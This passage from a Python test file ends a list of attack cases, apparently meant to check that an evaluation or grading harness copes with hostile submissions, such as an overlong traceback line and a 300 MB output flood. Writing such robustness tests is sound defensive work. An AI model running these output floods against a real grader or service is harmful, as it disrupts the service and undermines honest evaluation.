    Attack("traceback-line-over-the-wire-limit", CHEAP, {"compute_iou"}, clip_dino=(LONG_TRACEBACK_LINE, ""),
           words="ValueError: my labels"),
    Attack("print-300-mb", CHEAP, set(), clip_dino=("", PRINT_A_LOT)),
]
